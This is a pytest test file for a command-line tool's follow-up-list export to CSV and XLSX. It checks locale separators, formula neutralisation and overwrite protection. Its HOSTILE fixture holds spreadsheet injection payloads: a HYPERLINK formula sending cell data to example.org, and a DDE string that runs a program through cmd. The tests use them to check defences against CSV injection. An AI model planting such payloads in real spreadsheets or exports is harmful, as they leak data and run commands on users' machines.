"""The follow-up list as a file: CSV that Excel opens in columns under the project's locale,
texts that a spreadsheet would take for formulas neutralised (CSV and XLSX), and --to that
never writes over the project's own files nor over a file drafter did not make."""

from __future__ import annotations

import csv
import io
import os
import zipfile

import pytest
from openpyxl import load_workbook

from tests.followup.helpers import REGISTER, TODAY, drafter, make_project, snapshot

#: Texts from the parliament's open data or a register that a spreadsheet would run as formulas.
HOSTILE = {
    "title": '=HYPERLINK("http://example.org/?"&A1,"Klik")',
    "asker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minister": "+32 2 552 11 11",
}


@pytest.fixture
def listed(project):
    make_project(project)
    return project


def _hostile(project):
    register = project / REGISTER
    text = register.read_text(encoding="utf-8")
    text = text.replace("title: Clusterbeleid - Opsplitsing van de clustersteun",
                        f"title: '{HOSTILE['title'].replace(chr(39), chr(39) * 2)}'", 1)
    text = text.replace("number: 5\n    date: 2024-03-01\n    asker: N.N.",
                        f"number: 5\n    date: 2024-03-01\n    asker: \"{HOSTILE['asker']}\"", 1)
    text = text.replace("number: 6\n    date: 2024-02-26\n    asker: N.N.\n    minister:\n      name: N.N.",
                        f"number: 6\n    date: 2024-02-26\n    asker: \"-1+1\"\n    minister:\n      name: "
                        f"\"{HOSTILE['minister']}\"", 1)
    register.write_text(text, encoding="utf-8")


def status(*args: str):
    return drafter("status", "--today", TODAY, *args)


def test_csv_under_a_belgian_locale_has_semicolons_and_a_byte_order_mark(listed, tmp_path):
    target = tmp_path / "lijst.csv"
    assert status("--format", "csv", "--to", str(target)).exit_code == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfzittingsjaar;number;title;")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [r[1] for r in rows[1:]] == ["8", "7", "6", "5", "4"] and {len(r) for r in rows} == {18}


def test_csv_under_a_british_locale_has_commas(listed):
    register = listed / REGISTER
    register.write_text(register.read_text(encoding="utf-8").replace("locale: nl_BE", "locale: en_GB", 1),
                        encoding="utf-8")
    result = status("--format", "csv")
    assert result.stdout.startswith("\ufeffzittingsjaar,number,title,")
    assert [r[1] for r in csv.reader(io.StringIO(result.stdout.removeprefix("\ufeff")))][1:] == ["8", "7", "6", "5", "4"]


def test_the_separator_can_be_chosen(listed):
    result = status("--format", "csv", "--csv-separator", "tab")
    assert result.stdout.startswith("\ufeffzittingsjaar\tnumber\t")
    bad = status("--format", "csv", "--csv-separator", "|")
    assert bad.exit_code == 1 and "Traceback" not in bad.output
    assert bad.stderr == ("error: --csv-separator '|' is not a separator drafter writes. Give ; or , or tab (or leave "
                          "it out: the project's locale chooses).\n")


def test_formulas_from_the_register_are_quoted_in_the_csv(listed):
    _hostile(listed)
    result = status("--format", "csv")
    assert result.exit_code == 0, result.output
    rows = {r[1]: r for r in csv.reader(io.StringIO(result.stdout.removeprefix("\ufeff"), newline=""), delimiter=";")}
    assert rows["5"][2] == "'" + HOSTILE["title"] and rows["5"][3] == "'" + HOSTILE["asker"]
    assert rows["6"][3] == "'-1+1" and rows["6"][4] == "'" + HOSTILE["minister"]
    assert rows["8"][8] == "-7"  # a number of the list itself is a number, not a text
    for row in rows.values():
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row


def test_the_workbook_holds_no_formula(listed, tmp_path):
    _hostile(listed)
    target = tmp_path / "opvolging.xlsx"
    assert status("--format", "xlsx", "--to", str(target)).exit_code == 0
    sheet = load_workbook(target).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + HOSTILE["title"], "'" + HOSTILE["asker"], "'" + HOSTILE["minister"], "'-1+1"} <= texts
    with zipfile.ZipFile(target) as archive:  # and none in the sheet's XML, whatever a reader makes of it
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


# --------------------------------------------------------------------------- --to


@pytest.mark.parametrize("inside", ["data/questions.yaml", "data/budget.csv", "data/budget.xlsx", "data/notes.yaml",
                                    "answer_templates/algemeen.docx", "answer_templates/nieuw.xlsx", "drafter.toml"])
@pytest.mark.parametrize("force", [False, True])
def test_to_never_writes_over_the_project_s_own_files(listed, inside, force):
    before = snapshot(listed)
    result = status("--format", "csv", "--to", inside, *(["--force"] if force else []))
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert result.stderr == (f"error: {inside}: this is one of the project's own files (the register, its data, notes "
                             "or templates); drafter status never writes over it, nothing was written. Give another "
                             "file with --to, e.g. --to opvolging.xlsx.\n")
    assert snapshot(listed) == before


def test_to_sees_through_a_link_to_the_register(listed):
    if os.name == "nt":
        pytest.skip("symbolic links need rights on Windows")
    (listed / "lijst.csv").symlink_to(listed / REGISTER)
    before = snapshot(listed / "data")
    result = status("--format", "csv", "--to", "lijst.csv", "--force")
    assert result.exit_code == 1 and "one of the project's own files" in result.stderr
    assert snapshot(listed / "data") == before


def test_to_replaces_a_list_drafter_wrote_and_nothing_else_without_force(listed):
    for name, fmt in (("lijst.csv", "csv"), ("lijst.json", "json"), ("lijst.txt", "text"), ("lijst.xlsx", "xlsx")):
        assert status("--format", fmt, "--to", name).exit_code == 0
        assert status("--format", fmt, "--to", name, "--today", "2024-03-21").exit_code == 0  # its own: replaced
    other = listed / "brief.docx"
    other.write_bytes(b"a letter, not a list")
    result = status("--format", "csv", "--to", "brief.docx")
    assert result.exit_code == 1
    assert result.stderr == ("error: brief.docx: a file of this name exists and it is not a follow-up list drafter "
                             "wrote; it is not replaced, nothing was written. Give another file with --to, or add "
                             "--force to replace it all the same.\n")
    assert other.read_bytes() == b"a letter, not a list"
    assert status("--format", "csv", "--to", "brief.docx", "--force").exit_code == 0
    assert other.read_bytes().startswith(b"\xef\xbb\xbfzittingsjaar;")


def test_to_keeps_a_workbook_the_secretariat_changed(listed):
    assert status("--format", "xlsx", "--to", "opvolging.xlsx").exit_code == 0
    book = load_workbook(listed / "opvolging.xlsx")
    book.active["S1"] = "opgevolgd door"
    book.active["S2"] = "Jan"
    book.save(listed / "opvolging.xlsx")
    before = (listed / "opvolging.xlsx").read_bytes()
    result = status("--format", "xlsx", "--to", "opvolging.xlsx")
    assert result.exit_code == 1
    assert result.stderr.startswith("error: opvolging.xlsx: this follow-up list was changed since drafter wrote it; "
                                    "it is not replaced, nothing was written.")
    assert (listed / "opvolging.xlsx").read_bytes() == before
    assert status("--format", "xlsx", "--to", "opvolging.xlsx", "--force").exit_code == 0
    assert load_workbook(listed / "opvolging.xlsx").active["S1"].value is None


def test_to_a_folder_is_refused(listed):
    (listed / "lijsten").mkdir()
    result = status("--format", "csv", "--to", "lijsten", "--force")
    assert result.exit_code == 1 and "this is a folder; --to names the file for the list" in result.stderr
    assert list((listed / "lijsten").iterdir()) == []
